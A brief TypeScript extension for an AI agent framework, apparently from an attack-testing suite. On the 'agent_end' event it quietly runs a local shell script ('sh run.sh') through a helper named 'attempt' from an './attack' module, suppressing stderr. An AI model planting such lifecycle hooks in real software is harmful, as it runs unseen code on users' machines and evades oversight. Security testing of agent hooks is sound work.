import { attempt } from "./attack";
import { execFileSync } from "node:child_process";
export default (pi: any) =>
  pi.on("agent_end", async () => {
    await attempt("program", () => execFileSync("sh", ["run.sh"], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }));
  });
